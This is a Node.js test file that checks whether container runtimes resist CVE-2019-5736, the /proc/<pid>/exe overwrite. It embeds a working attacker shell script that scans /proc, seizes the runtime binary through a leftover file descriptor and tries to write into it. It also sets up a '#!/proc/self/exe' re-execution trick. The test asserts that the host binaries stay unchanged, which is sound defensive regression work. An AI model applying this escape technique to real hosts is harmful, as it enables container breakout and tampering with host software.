// CVE-2019-5736: a container process gets hold of the runtime's own binary through
// /proc/<pid>/exe (of a runtime process inside the container during exec, or of one
// re-executed through `#!/proc/self/exe`) and writes into it once that process is gone.
// Whatever it manages to open, the host's runtime binaries must stay byte-for-byte the same.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, closeSync, constants, existsSync, openSync, readFileSync, writeFileSync, writeSync } from 'node:fs';
import { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { join } from 'node:path';
import { copySharedLibraries, makeBundle, runDetached, runtimes, sha256, uniqueId } from './lib.mjs';

// The container's init: every process whose exe is not busybox is stopped, its exe
// opened, the process killed, and the binary written through the fd left behind (append,
// read-write, and by path), each outcome logged to /log.
const attacker = `
: > /log
while [ ! -e /stop ]; do
  for d in /proc/[0-9]*; do
    p=\${d#/proc/}
    case "$p" in 1|$$) continue;; esac
    exe=$(readlink $d/exe 2>/dev/null) || continue
    case "$exe" in /bin/busybox|"") continue;; esac
    kill -STOP $p 2>/dev/null
    echo "seen $p $exe" >> /log
    (
      exec 7<$d/exe || exit 0
      echo "opened $p" >> /log
      kill -KILL $p 2>/dev/null
      sleep 0.1
      printf PWNED >> /proc/self/fd/7 && echo "WROTE append $p" >> /log
      printf PWNED 1<> /proc/self/fd/7 && echo "WROTE rw $p" >> /log
    ) 2>/dev/null
    kill -CONT $p 2>/dev/null
  done
done
echo done >> /log
: > /finished
`;

/** A FIFO whose buffer is already full: a process writing to `writer` blocks until
 *  drainAndClose(). */
function fullPipe(path) {
  assert.equal(spawnSync('mkfifo', [path]).status, 0);
  const reader = openSync(path, constants.O_RDONLY | constants.O_NONBLOCK);
  const writer = openSync(path, constants.O_WRONLY);
  writeSync(writer, Buffer.alloc(65536)); // the default pipe capacity, 16 pages
  return {
    writer,
    /** Reads everything until the last writer (our runtime child too) is gone; resolves
     *  to what was written after the filler (the runtime child's complaint). */
    drainAndClose() {
      closeSync(writer);
      const sock = new Socket({ fd: reader, readable: true, writable: false });
      const chunks = [];
      sock.on('data', (d) => chunks.push(d));
      return new Promise((resolve) => sock.once('close', () => resolve(Buffer.concat(chunks).subarray(65536).toString())));
    },
  };
}

const log = (b) => (existsSync(join(b.rootfs, 'log')) ? readFileSync(join(b.rootfs, 'log'), 'utf8') : '');

async function until(check, what) {
  for (let i = 0; i < 200; i++) {
    if (check()) return;
    await sleep(50);
  }
  assert.fail(`timed out waiting for ${what}`);
}

for (const rt of runtimes()) {
  describe(`/proc/<pid>/exe overwrite (${rt.name})`, () => {

    test('exec\'d processes and #!/proc/self/exe re-executions cannot modify the host runtime binaries', async () => {
      const b = makeBundle({ args: ['sh', '/attack.sh'] }, (rootfs) => {
        writeFileSync(join(rootfs, 'attack.sh'), attacker);
        writeFileSync(join(rootfs, 'evil'), '#!/proc/self/exe\n');
        chmodSync(join(rootfs, 'evil'), 0o755);
        copySharedLibraries(rt.execBinary, rootfs);
      });
      const id = uniqueId('exe');
      const hashes = rt.binaries.map(sha256);
      try {
        runDetached(rt, b, id);
        // Runtime processes racing through the container while the attacker scans.
        for (let i = 0; i < 5; i++) assert.equal(rt.cmd(['exec', id, 'true'], { stdio: 'ignore' }).status, 0, `exec ${i}`);
        // The runtime binary itself, re-executed in the container, complains about its
        // arguments on stderr: a full pipe holds it there, alive, for the attacker.
        const stderr = fullPipe(join(b.dir, 'stderr.fifo'));
        const evil = spawn(rt.argv[0], [...rt.argv.slice(1), '--root', rt.root, 'exec', id, '/evil'],
          { stdio: ['ignore', 'ignore', stderr.writer] });
        const evilExit = new Promise((resolve) => evil.on('close', resolve));
        let opened = false;
        try {
          await until(() => /opened/.test(log(b)), 'the attacker to open the runtime binary');
          opened = true;
        } finally {
          const complaint = await stderr.drainAndClose();
          const status = await evilExit;
          // If the attacker never saw it, say what the runtime child said instead.
          if (!opened) console.error(`${rt.name} exec /evil exited ${status}: ${complaint}\nattacker log:\n${log(b)}`);
        }
        writeFileSync(join(b.rootfs, 'stop'), '');
        await until(() => existsSync(join(b.rootfs, 'finished')), 'the attacker to finish');
        assert.deepEqual(rt.binaries.map(sha256), hashes);
        assert.doesNotMatch(log(b), /WROTE/);
      } finally {
        rt.cmd(['delete', '-f', id]);
        b.remove();
      }
    });
  });
}
